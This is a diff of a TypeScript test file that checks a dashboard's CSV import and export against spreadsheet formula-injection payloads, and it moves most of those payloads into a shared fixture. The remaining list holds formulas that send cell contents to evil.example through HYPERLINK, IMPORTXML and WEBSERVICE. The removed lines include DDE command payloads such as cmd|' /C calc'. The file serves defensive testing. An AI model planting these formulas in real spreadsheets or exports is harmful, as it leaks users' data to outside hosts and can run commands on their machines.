@@ -4,51 +4,24 @@ import { readImport } from '../../../core/import-replies.ts';
 import type { Reply } from '../../../core/model.ts';
 import { printReplyTable } from '../../../core/reply-table.ts';
 import { printCsv, readCsv } from '../../../entrypoints/dashboard/csv.ts';
+import { formulas } from '../../fixtures/payloads.ts';
 import { makeReply, now } from './made-up.ts';
 
 const making = { makeId: () => crypto.randomUUID(), now };
 const readTable = (text: string) => readImport(text, readCsv, making);
 
+/** Those of any table, and what quotes and separators do. */
 const payloads = [
-  '=1+1',
-  '+1+1',
-  '-1+1',
-  '@SUM(1,1)',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  ' =1+1',
-  "'=1+1",
-  "''=1+1",
-  '＝1+1',
-  '＋1+1',
-  '－1+1',
-  '＠SUM(1)',
+  ...formulas,
   '=HYPERLINK("http://evil.example?x="&A1,"click")',
-  "=cmd|' /C calc'!A0",
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  "+cmd|' /C calc'!A0",
-  "-2+3+cmd|' /C calc'!A0",
   '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
   '=WEBSERVICE("http://evil.example/"&A1)',
-  '|calc',
-  '%0A=1',
-  '\u00a0=1+1',
-  '\u2003=1+1',
-  '=1\n=2',
   '";=1+1',
   '",=1+1',
   '"=1+1"',
-  '-',
-  '=',
-  '+49 30 1234',
-  '@ada',
-  '- a list\n- of things',
   "'",
   "'quoted'",
-  '\uFEFF=1',
   ';=1+1',
-  '=1;=2',
   'a\t=1',
 ];
 
